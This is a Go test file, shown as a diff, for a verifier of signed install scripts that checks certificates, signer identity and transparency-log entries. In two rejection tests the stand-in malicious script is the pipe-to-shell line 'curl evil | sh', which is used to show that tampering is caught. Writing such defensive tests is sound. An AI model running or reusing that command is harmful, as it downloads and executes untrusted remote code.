@@ -0,0 +1,358 @@
+//
+// Copyright 2021 The Sigstore Authors.
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package verify
+
+import (
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/sha256"
+	"crypto/x509"
+	"crypto/x509/pkix"
+	"encoding/base64"
+	"encoding/hex"
+	"encoding/json"
+	"encoding/pem"
+	"math/big"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/lukehinds/sap/pkg/manifest"
+	"github.com/lukehinds/sap/pkg/rekor"
+	"github.com/lukehinds/sap/pkg/rekor/rekortest"
+)
+
+const (
+	testSigner = "jdoe@example.com"
+	testIssuer = "https://issuer.example.com"
+)
+
+// testCA issues Fulcio style signing certificates.
+type testCA struct {
+	cert  *x509.Certificate
+	key   *ecdsa.PrivateKey
+	roots *x509.CertPool
+}
+
+func newTestCA(t *testing.T) *testCA {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	template := &x509.Certificate{
+		SerialNumber:          big.NewInt(1),
+		Subject:               pkix.Name{CommonName: "test root"},
+		NotBefore:             time.Now().Add(-time.Hour),
+		NotAfter:              time.Now().Add(time.Hour),
+		KeyUsage:              x509.KeyUsageCertSign,
+		BasicConstraintsValid: true,
+		IsCA:                  true,
+	}
+	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cert, err := x509.ParseCertificate(der)
+	if err != nil {
+		t.Fatal(err)
+	}
+	roots := x509.NewCertPool()
+	roots.AddCert(cert)
+	return &testCA{cert: cert, key: key, roots: roots}
+}
+
+// issue returns a fresh key with a short lived certificate binding it to
+// email, as issued by the OIDC issuer.
+func (ca *testCA) issue(t *testing.T, email string) (*ecdsa.PrivateKey, []byte) {
+	t.Helper()
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	der, err := x509.CreateCertificate(rand.Reader, &x509.Certificate{
+		SerialNumber:   big.NewInt(time.Now().UnixNano()),
+		NotBefore:      time.Now().Add(-time.Minute),
+		NotAfter:       time.Now().Add(10 * time.Minute),
+		KeyUsage:       x509.KeyUsageDigitalSignature,
+		ExtKeyUsage:    []x509.ExtKeyUsage{x509.ExtKeyUsageCodeSigning},
+		EmailAddresses: []string{email},
+		ExtraExtensions: []pkix.Extension{
+			{Id: oidIssuer, Value: []byte(testIssuer)},
+		},
+	}, ca.cert, key.Public(), ca.key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return key, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
+}
+
+func sign(t *testing.T, key *ecdsa.PrivateKey, payload []byte) []byte {
+	t.Helper()
+	digest := sha256.Sum256(payload)
+	sig, err := ecdsa.SignASN1(rand.Reader, key, digest[:])
+	if err != nil {
+		t.Fatal(err)
+	}
+	return sig
+}
+
+// signScript signs script with a certificate from ca and logs it with the
+// stand-in, the way sign does.
+func signScript(t *testing.T, srv *rekortest.Server, ca *testCA, script string) *Materials {
+	t.Helper()
+	key, certPEM := ca.issue(t, testSigner)
+	sig := sign(t, key, []byte(script))
+	entry, err := rekor.Upload(srv.URL, certPEM, sig, []byte(script))
+	if err != nil {
+		t.Fatal(err)
+	}
+	entryJSON, err := json.Marshal(entry)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	digest := sha256.Sum256([]byte(script))
+	artifact := manifest.Artifact{
+		Path:        "install.sh",
+		SHA256:      hex.EncodeToString(digest[:]),
+		Signature:   "signature.bin",
+		Certificate: "fulcio_cert.pem",
+		Rekor: manifest.Rekor{
+			Entry:    "rekor.json",
+			UUID:     entry.UUID,
+			LogIndex: entry.LogIndex,
+		},
+		Signer:      manifest.Signer{Identities: []string{testSigner}, Issuer: testIssuer},
+		Interpreter: "bash",
+	}
+	manifestBytes, err := manifest.Marshal(&manifest.Manifest{
+		SchemaVersion: manifest.SchemaVersion,
+		Artifacts:     []manifest.Artifact{artifact},
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return &Materials{
+		Manifest:          manifestBytes,
+		ManifestSignature: []byte(base64.StdEncoding.EncodeToString(sign(t, key, manifestBytes))),
+		Artifact:          artifact,
+		Script:            []byte(script),
+		Certificate:       certPEM,
+		Signature:         []byte(base64.StdEncoding.EncodeToString(sig)),
+		Entry:             entryJSON,
+	}
+}
+
+// tamperEntry rewrites the committed log entry of m.
+func tamperEntry(t *testing.T, m *Materials, tamper func(e *rekor.Entry)) {
+	t.Helper()
+	e, err := rekor.ParseEntry(m.Entry)
+	if err != nil {
+		t.Fatal(err)
+	}
+	tamper(e)
+	if m.Entry, err = json.Marshal(e); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestVerifyValidEntry(t *testing.T) {
+	srv := rekortest.NewServer(t)
+	ca := newTestCA(t)
+	m := signScript(t, srv, ca, "#!/bin/bash\necho hello\n")
+	// Later entries make the log lookup check consistency with a newer tree
+	signScript(t, srv, ca, "#!/bin/bash\necho other\n")
+
+	for _, rekorURL := range []string{"", srv.URL} {
+		r := Verify(m, Options{
+			Roots:          ca.roots,
+			Policy:         IdentityPolicy{Identities: []string{testSigner}, Issuers: []string{testIssuer}},
+			RekorPublicKey: &srv.Key.PublicKey,
+			RekorURL:       rekorURL,
+		})
+		if f := r.Failure(); f != nil {
+			t.Fatalf("Verify with Rekor URL %q failed %s check %q: %v", rekorURL, f.Class, f.Name, f.Err)
+		}
+		if r.Entry == nil || r.Entry.UUID != m.Artifact.Rekor.UUID {
+			t.Errorf("Verify with Rekor URL %q reported entry %v", rekorURL, r.Entry)
+		}
+		if got := r.Signer.String(); got != testSigner+" (issuer "+testIssuer+")" {
+			t.Errorf("Verify with Rekor URL %q reported signer %s", rekorURL, got)
+		}
+	}
+
+	// Any signer is only accepted when explicitly allowed
+	r := Verify(m, Options{
+		Roots:          ca.roots,
+		RekorPublicKey: &srv.Key.PublicKey,
+		AllowAnySigner: true,
+	})
+	if f := r.Failure(); f != nil {
+		t.Errorf("Verify allowing any signer failed %s check %q: %v", f.Class, f.Name, f.Err)
+	}
+}
+
+func TestVerifyRejects(t *testing.T) {
+	srv := rekortest.NewServer(t)
+	other := rekortest.NewServer(t)
+	ca := newTestCA(t)
+	zero := strings.Repeat("00", sha256.Size)
+
+	tests := []struct {
+		name   string
+		tamper func(t *testing.T, m *Materials)
+		opts   func(o *Options)
+		check  string
+		class  Class
+	}{
+		{
+			name:  "bad SET",
+			opts:  func(o *Options) { o.RekorPublicKey = &other.Key.PublicKey },
+			check: "signed entry timestamp",
+			class: ClassTlog,
+		},
+		{
+			name: "forged SET",
+			tamper: func(t *testing.T, m *Materials) {
+				tamperEntry(t, m, func(e *rekor.Entry) { e.IntegratedTime-- })
+			},
+			check: "signed entry timestamp",
+			class: ClassTlog,
+		},
+		{
+			name:  "untrusted root",
+			opts:  func(o *Options) { o.Roots = newTestCA(t).roots },
+			check: "certificate chain",
+			class: ClassCertificate,
+		},
+		{
+			name:  "other signer",
+			opts:  func(o *Options) { o.Policy.Identities = []string{"someone@example.com"} },
+			check: "signer identity",
+			class: ClassIdentity,
+		},
+		{
+			name:  "no identity policy",
+			opts:  func(o *Options) { o.Policy = IdentityPolicy{} },
+			check: "signer identity",
+			class: ClassIdentity,
+		},
+		{
+			name:  "other issuer",
+			opts:  func(o *Options) { o.Policy.Issuers = []string{"https://other.example.com"} },
+			check: "signer identity",
+			class: ClassIdentity,
+		},
+		{
+			name: "tampered manifest",
+			tamper: func(t *testing.T, m *Materials) {
+				m.Manifest = append(m.Manifest, ' ')
+			},
+			check: "manifest signature",
+			class: ClassSignature,
+		},
+		{
+			name: "bad inclusion proof",
+			tamper: func(t *testing.T, m *Materials) {
+				tamperEntry(t, m, func(e *rekor.Entry) { e.InclusionProof.RootHash = zero })
+			},
+			check: "inclusion proof",
+			class: ClassTlog,
+		},
+		{
+			name: "tampered body",
+			tamper: func(t *testing.T, m *Materials) {
+				// Log another script and pass its entry off as this one's
+				o := signScript(t, srv, ca, "#!/bin/bash\ncurl evil | sh\n")
+				logged, err := rekor.ParseEntry(o.Entry)
+				if err != nil {
+					t.Fatal(err)
+				}
+				tamperEntry(t, m, func(e *rekor.Entry) { e.Body = logged.Body })
+			},
+			check: "signed entry timestamp",
+			class: ClassTlog,
+		},
+		{
+			name: "entry of another log",
+			tamper: func(t *testing.T, m *Materials) {
+				m.Entry = signScript(t, other, ca, string(m.Script)).Entry
+			},
+			opts:  func(o *Options) { o.RekorPublicKey = &other.Key.PublicKey },
+			check: "log entry",
+			class: ClassTlog,
+		},
+		{
+			name:  "entry missing from the log",
+			opts:  func(o *Options) { o.RekorURL = other.URL },
+			check: "log lookup",
+			class: ClassTlog,
+		},
+		{
+			name:  "interpreter not allowed",
+			opts:  func(o *Options) { o.Interpreters = []string{"sh"} },
+			check: "declared interpreter",
+			class: ClassInterpreter,
+		},
+		{
+			name: "tampered script",
+			tamper: func(t *testing.T, m *Materials) {
+				m.Script = []byte("#!/bin/bash\ncurl evil | sh\n")
+			},
+			check: "script digest",
+			class: ClassSignature,
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			m := signScript(t, srv, ca, "#!/bin/bash\necho hello\n")
+			if tt.tamper != nil {
+				tt.tamper(t, m)
+			}
+			opts := Options{
+				Roots:          ca.roots,
+				Policy:         IdentityPolicy{Identities: []string{testSigner}},
+				RekorPublicKey: &srv.Key.PublicKey,
+			}
+			if tt.opts != nil {
+				tt.opts(&opts)
+			}
+			f := Verify(m, opts).Failure()
+			if f == nil {
+				t.Fatal("Verify passed")
+			}
+			if f.Name != tt.check || f.Class != tt.class {
+				t.Errorf("Verify failed %s check %q (%v), want %s check %q", f.Class, f.Name, f.Err, tt.class, tt.check)
+			}
+		})
+	}
+}
+
+func TestExitCodes(t *testing.T) {
+	seen := map[int]Class{}
+	for _, c := range []Class{ClassMaterials, ClassSignature, ClassCertificate, ClassIdentity, ClassTlog, ClassInterpreter} {
+		code := c.ExitCode()
+		if code < 2 {
+			t.Errorf("%s exits with %d, which is taken by other errors", c, code)
+		}
+		if prev, ok := seen[code]; ok {
+			t.Errorf("%s and %s both exit with %d", prev, c, code)
+		}
+		seen[code] = c
+	}
+}